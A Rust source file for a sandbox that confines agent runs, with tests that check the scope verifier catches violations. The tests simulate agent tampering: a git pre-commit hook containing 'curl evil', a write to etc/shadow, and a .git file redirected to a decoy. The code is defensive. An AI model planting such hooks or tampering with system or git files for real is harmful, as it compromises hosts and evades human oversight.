//! Per-run sandbox lifecycle
//!
//! `Prepared -> Running -> Verifying -> {Reconciling | Violated} -> TornDown`.
//! A run that ends in `Violated` never reaches index synchronization.

use crate::env::EnvironmentBuilder;
use crate::error::{RunError, ScopeVerificationError};
use crate::git_sandbox::{self, GitSandboxState, SyncOutcome};
use crate::mount::{MountPoint, RunId, SandboxLayout, SandboxMount};
use crate::verify::{ScopeReport, ScopeVerifier};
use std::fmt;
use std::fs;
use std::path::{Path, PathBuf};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunPhase {
    /// Directories exist; the runtime may mount them
    Prepared,
    /// The agent is executing
    Running,
    Verifying,
    /// Verification passed; git state is being or has been merged back
    Reconciling,
    /// A blocked path was found, or verification could not complete
    Violated,
    TornDown,
}

impl RunPhase {
    pub fn name(self) -> &'static str {
        match self {
            RunPhase::Prepared => "prepared",
            RunPhase::Running => "running",
            RunPhase::Verifying => "verifying",
            RunPhase::Reconciling => "reconciling",
            RunPhase::Violated => "violated",
            RunPhase::TornDown => "torn-down",
        }
    }
}

impl fmt::Display for RunPhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Mount strategy requested by the orchestrator
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RunMode {
    /// Copy-on-write over the project at `lower_dir`
    Overlay { lower_dir: PathBuf },
    /// Direct use of a checked-out worktree
    Worktree { worktree_path: PathBuf },
}

/// What a successful run produced
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunOutcome {
    pub report: ScopeReport,
    /// Index reconciliation result; `None` in overlay mode
    pub sync: Option<SyncOutcome>,
}

/// One sandboxed run and the host directories it owns
#[derive(Debug)]
pub struct SandboxRun {
    layout: SandboxLayout,
    mount: SandboxMount,
    git: Option<GitSandboxState>,
    mount_root: PathBuf,
    phase: RunPhase,
}

impl SandboxRun {
    /// Create the run's directories under `sandbox_root`
    ///
    /// `mount_root` is the container path the project appears at; it is
    /// where verification anchors changed paths.
    pub fn prepare(
        sandbox_root: &Path,
        run_id: RunId,
        mode: RunMode,
        mount_root: impl Into<PathBuf>,
    ) -> Result<Self, RunError> {
        let layout = SandboxLayout::new(sandbox_root, run_id);
        create_dir(layout.run_dir())?;

        let prepared = match &mode {
            RunMode::Overlay { lower_dir } => {
                create_dir(&layout.upper_dir())
                    .and_then(|_| create_dir(&layout.work_dir()))
                    .map(|_| (SandboxMount::overlay(lower_dir, &layout), None))
            }
            RunMode::Worktree { worktree_path } => {
                git_sandbox::prepare_sandbox_git(worktree_path, &layout.sanitized_git_dir())
                    .map_err(RunError::from)
                    .map(|state| (SandboxMount::worktree(&state), Some(state)))
            }
        };

        let (mount, git) = match prepared {
            Ok(prepared) => prepared,
            Err(e) => {
                if let Err(cleanup) = fs::remove_dir_all(layout.run_dir()) {
                    tracing::warn!(
                        "Failed to remove {} after failed preparation: {}",
                        layout.run_dir().display(),
                        cleanup
                    );
                }
                return Err(e);
            }
        };

        tracing::info!(
            "Prepared {} sandbox {} at {}",
            mount.mode_name(),
            layout.run_id(),
            layout.run_dir().display()
        );

        Ok(Self {
            layout,
            mount,
            git,
            mount_root: mount_root.into(),
            phase: RunPhase::Prepared,
        })
    }

    pub fn phase(&self) -> RunPhase {
        self.phase
    }

    pub fn layout(&self) -> &SandboxLayout {
        &self.layout
    }

    pub fn mount(&self) -> &SandboxMount {
        &self.mount
    }

    pub fn mount_root(&self) -> &Path {
        &self.mount_root
    }

    /// Sanitized git state; `None` in overlay mode
    pub fn git_state(&self) -> Option<&GitSandboxState> {
        self.git.as_ref()
    }

    /// Mounts the runtime must create for this run
    pub fn mount_points(&self) -> Vec<MountPoint> {
        self.mount.mount_points(&self.mount_root)
    }

    /// Environment the runtime must set inside the container
    pub fn environment(&self) -> EnvironmentBuilder {
        match &self.git {
            Some(state) => state.environment(&self.mount_root),
            None => EnvironmentBuilder::new(),
        }
    }

    /// Record that the runtime has started the agent
    pub fn mark_running(&mut self) -> Result<(), RunError> {
        self.expect_phase(RunPhase::Prepared)?;
        self.phase = RunPhase::Running;
        Ok(())
    }

    /// Verify the run's changes, then reconcile git state if they are in scope
    pub fn finish(&mut self, verifier: &ScopeVerifier) -> Result<RunOutcome, RunError> {
        self.expect_phase(RunPhase::Running)?;
        self.phase = RunPhase::Verifying;

        let verifier = verifier.clone().with_run_id(self.layout.run_id().as_str());
        let report = match verifier.verify(&self.mount_root, &self.mount) {
            Ok(report) => report,
            Err(e) => {
                self.phase = RunPhase::Violated;
                if let ScopeVerificationError::Violation(violation) = &e {
                    tracing::warn!(
                        "Run {} violated scope; skipping git reconciliation ({} blocked path(s))",
                        self.layout.run_id(),
                        violation.violations.len()
                    );
                }
                return Err(e.into());
            }
        };

        self.phase = RunPhase::Reconciling;
        let sync = match &self.mount {
            SandboxMount::Worktree {
                sanitized_git_dir,
                baseline,
                ..
            } => Some(git_sandbox::sync_index_recorded(baseline, sanitized_git_dir)?),
            SandboxMount::Overlay { .. } => None,
        };

        Ok(RunOutcome { report, sync })
    }

    /// Remove every directory the run created; idempotent
    pub fn teardown(&mut self) -> Result<(), RunError> {
        if self.phase == RunPhase::TornDown {
            return Ok(());
        }
        self.remove_dirs()?;
        tracing::debug!("Tore down sandbox {}", self.layout.run_id());
        self.phase = RunPhase::TornDown;
        Ok(())
    }

    fn remove_dirs(&self) -> Result<(), RunError> {
        let owned = self.mount.owned_dirs();
        for dir in owned.into_iter().chain([self.layout.run_dir()]) {
            match fs::remove_dir_all(dir) {
                Ok(()) => {}
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
                Err(source) => {
                    return Err(RunError::Teardown {
                        path: dir.to_path_buf(),
                        source,
                    })
                }
            }
        }
        Ok(())
    }

    fn expect_phase(&self, expected: RunPhase) -> Result<(), RunError> {
        if self.phase == expected {
            Ok(())
        } else {
            Err(RunError::WrongPhase {
                expected: expected.name(),
                actual: self.phase.name(),
            })
        }
    }
}

impl Drop for SandboxRun {
    fn drop(&mut self) {
        if self.phase != RunPhase::TornDown {
            if let Err(e) = self.remove_dirs() {
                tracing::warn!("Failed to clean up sandbox {}: {}", self.layout.run_id(), e);
            }
        }
    }
}

fn create_dir(path: &Path) -> Result<(), RunError> {
    fs::create_dir_all(path).map_err(|source| RunError::DirCreation {
        path: path.to_path_buf(),
        source,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::AuditLog;
    use crate::classify::{ClassificationRule, PathClassification, PathClassifier};
    use crate::error::SanitizeError;
    use std::process::Command;
    use tempfile::TempDir;

    fn overlay_run(dir: &TempDir) -> SandboxRun {
        SandboxRun::prepare(
            &dir.path().join("sandboxes"),
            RunId::new("run-1").unwrap(),
            RunMode::Overlay {
                lower_dir: dir.path().join("project"),
            },
            "/",
        )
        .unwrap()
    }

    fn verifier(dir: &TempDir) -> ScopeVerifier {
        ScopeVerifier::new(AuditLog::new(dir.path().join("audit.jsonl")))
    }

    fn git_available() -> bool {
        Command::new("git")
            .arg("--version")
            .output()
            .map(|o| o.status.success())
            .unwrap_or(false)
    }

    #[test]
    fn test_overlay_lifecycle() {
        let dir = TempDir::new().unwrap();
        let mut run = overlay_run(&dir);
        let upper = run.layout().upper_dir();
        assert!(upper.is_dir());
        assert!(run.layout().work_dir().is_dir());
        assert_eq!(run.phase(), RunPhase::Prepared);

        run.mark_running().unwrap();
        fs::create_dir_all(upper.join("workspace")).unwrap();
        fs::write(upper.join("workspace/out.txt"), "ok").unwrap();

        let outcome = run.finish(&verifier(&dir)).unwrap();
        assert_eq!(run.phase(), RunPhase::Reconciling);
        assert_eq!(outcome.report.allowed, 1);
        assert_eq!(outcome.sync, None);

        let run_dir = run.layout().run_dir().to_path_buf();
        run.teardown().unwrap();
        assert_eq!(run.phase(), RunPhase::TornDown);
        assert!(!run_dir.exists());
        run.teardown().unwrap();
    }

    #[test]
    fn test_violation_is_terminal() {
        let dir = TempDir::new().unwrap();
        let mut run = overlay_run(&dir);
        run.mark_running().unwrap();
        let upper = run.layout().upper_dir();
        fs::create_dir_all(upper.join("etc")).unwrap();
        fs::write(upper.join("etc/shadow"), "x").unwrap();

        let result = run.finish(&verifier(&dir));

        assert!(matches!(
            result,
            Err(RunError::Scope(ScopeVerificationError::Violation(_)))
        ));
        assert_eq!(run.phase(), RunPhase::Violated);
        let records = AuditLog::new(dir.path().join("audit.jsonl")).read_all().unwrap();
        assert_eq!(records[0].run_id.as_deref(), Some("run-1"));

        assert!(matches!(
            run.finish(&verifier(&dir)),
            Err(RunError::WrongPhase { actual: "violated", .. })
        ));
    }

    #[test]
    fn test_finish_requires_running() {
        let dir = TempDir::new().unwrap();
        let mut run = overlay_run(&dir);
        let result = run.finish(&verifier(&dir));
        assert!(matches!(
            result,
            Err(RunError::WrongPhase {
                expected: "running",
                actual: "prepared"
            })
        ));
    }

    #[test]
    fn test_drop_removes_directories() {
        let dir = TempDir::new().unwrap();
        let run_dir = {
            let run = overlay_run(&dir);
            run.layout().run_dir().to_path_buf()
        };
        assert!(!run_dir.exists());
    }

    #[test]
    fn test_failed_prepare_leaves_nothing() {
        let dir = TempDir::new().unwrap();
        let not_a_repo = dir.path().join("plain");
        fs::create_dir(&not_a_repo).unwrap();

        let result = SandboxRun::prepare(
            &dir.path().join("sandboxes"),
            RunId::new("run-2").unwrap(),
            RunMode::Worktree {
                worktree_path: not_a_repo,
            },
            "/workspace",
        );

        assert!(matches!(
            result,
            Err(RunError::Sanitize(SanitizeError::NotAGitWorktree(_)))
        ));
        assert!(!dir.path().join("sandboxes/run-2").exists());
    }

    #[test]
    fn test_overlay_has_no_git_environment() {
        let dir = TempDir::new().unwrap();
        let run = overlay_run(&dir);
        assert!(run.environment().vars().is_empty());
        assert_eq!(run.mount_points().len(), 1);
    }

    fn init_repo(root: &Path) -> PathBuf {
        let worktree = root.join("repo");
        fs::create_dir_all(&worktree).unwrap();
        let git = |args: &[&str]| {
            let status = Command::new("git")
                .args(args)
                .current_dir(&worktree)
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .status()
                .unwrap();
            assert!(status.success(), "git {args:?}");
        };
        git(&["init", "-q"]);
        fs::write(worktree.join("README"), "hello\n").unwrap();
        git(&["add", "README"]);
        git(&["-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "init"]);
        worktree
    }

    #[test]
    fn test_worktree_lifecycle_syncs_index() {
        if !git_available() {
            eprintln!("git not installed, skipping");
            return;
        }
        let dir = TempDir::new().unwrap();
        let worktree = init_repo(dir.path());
        let mut run = SandboxRun::prepare(
            &dir.path().join("sandboxes"),
            RunId::new("wt").unwrap(),
            RunMode::Worktree {
                worktree_path: worktree.clone(),
            },
            "/workspace",
        )
        .unwrap();
        assert!(run.git_state().unwrap().is_ready());
        assert_eq!(run.environment().get("GIT_WORK_TREE"), Some("/workspace"));
        assert!(run
            .mount_points()
            .contains(&MountPoint::ro(worktree.join(".git"), PathBuf::from("/workspace/.git"))));

        run.mark_running().unwrap();
        let sanitized = run.layout().sanitized_git_dir();
        fs::write(sanitized.join("index"), b"DIRC-from-sandbox").unwrap();

        let outcome = run.finish(&verifier(&dir)).unwrap();

        assert_eq!(
            outcome.sync,
            Some(SyncOutcome::Synced {
                index: worktree.join(".git/index"),
                objects: 0
            })
        );
        assert_eq!(fs::read(worktree.join(".git/index")).unwrap(), b"DIRC-from-sandbox");
    }

    #[test]
    fn test_worktree_violation_skips_sync() {
        if !git_available() {
            eprintln!("git not installed, skipping");
            return;
        }
        let dir = TempDir::new().unwrap();
        let worktree = init_repo(dir.path());
        let real_index = fs::read(worktree.join(".git/index")).unwrap();
        let mut run = SandboxRun::prepare(
            &dir.path().join("sandboxes"),
            RunId::new("wt-bad").unwrap(),
            RunMode::Worktree {
                worktree_path: worktree.clone(),
            },
            "/workspace",
        )
        .unwrap();

        run.mark_running().unwrap();
        fs::write(run.layout().sanitized_git_dir().join("index"), b"DIRC-tainted").unwrap();
        fs::create_dir(worktree.join("secrets")).unwrap();
        fs::write(worktree.join("secrets/key"), "x").unwrap();

        let strict = PathClassifier::from_rules(vec![
            ClassificationRule::new("workspace/secrets", PathClassification::Blocked),
            ClassificationRule::new("workspace", PathClassification::Allowed),
        ]);
        let result = run.finish(&verifier(&dir).with_classifier(strict));

        assert!(matches!(result, Err(RunError::Scope(_))));
        assert_eq!(run.phase(), RunPhase::Violated);
        assert_eq!(fs::read(worktree.join(".git/index")).unwrap(), real_index);
    }

    #[test]
    fn test_planted_real_hook_fails_run_without_sync() {
        if !git_available() {
            eprintln!("git not installed, skipping");
            return;
        }
        let dir = TempDir::new().unwrap();
        let worktree = init_repo(dir.path());
        let real_index = fs::read(worktree.join(".git/index")).unwrap();
        let mut run = SandboxRun::prepare(
            &dir.path().join("sandboxes"),
            RunId::new("hook").unwrap(),
            RunMode::Worktree {
                worktree_path: worktree.clone(),
            },
            "/workspace",
        )
        .unwrap();

        run.mark_running().unwrap();
        fs::write(run.layout().sanitized_git_dir().join("index"), b"DIRC-tainted").unwrap();
        fs::write(worktree.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n").unwrap();

        let result = run.finish(&verifier(&dir));

        let Err(RunError::Scope(ScopeVerificationError::Violation(violation))) = result else {
            panic!("expected violation");
        };
        assert_eq!(violation.violations, vec![".git/hooks/pre-commit"]);
        assert_eq!(run.phase(), RunPhase::Violated);
        assert_eq!(fs::read(worktree.join(".git/index")).unwrap(), real_index);
    }

    #[test]
    fn test_repointed_linked_worktree_fails_run_without_sync() {
        if !git_available() {
            eprintln!("git not installed, skipping");
            return;
        }
        let dir = TempDir::new().unwrap();
        let main = init_repo(dir.path());
        let linked = dir.path().join("linked");
        let status = Command::new("git")
            .args(["worktree", "add", "-q"])
            .arg(&linked)
            .current_dir(&main)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .status()
            .unwrap();
        assert!(status.success());
        let real_index_path = main.join(".git/worktrees/linked/index");
        let real_index = fs::read(&real_index_path).unwrap();

        let mut run = SandboxRun::prepare(
            &dir.path().join("sandboxes"),
            RunId::new("linked").unwrap(),
            RunMode::Worktree {
                worktree_path: linked.clone(),
            },
            "/workspace",
        )
        .unwrap();

        run.mark_running().unwrap();
        fs::write(run.layout().sanitized_git_dir().join("index"), b"DIRC-tainted").unwrap();
        let decoy = linked.join("decoy");
        fs::create_dir(&decoy).unwrap();
        fs::write(linked.join(".git"), format!("gitdir: {}\n", decoy.display())).unwrap();

        let result = run.finish(&verifier(&dir));

        let Err(RunError::Scope(ScopeVerificationError::Violation(violation))) = result else {
            panic!("expected violation");
        };
        assert!(violation.violations.contains(&".git".to_string()));
        assert!(!decoy.join("index").exists());
        assert_eq!(fs::read(&real_index_path).unwrap(), real_index);
    }
}
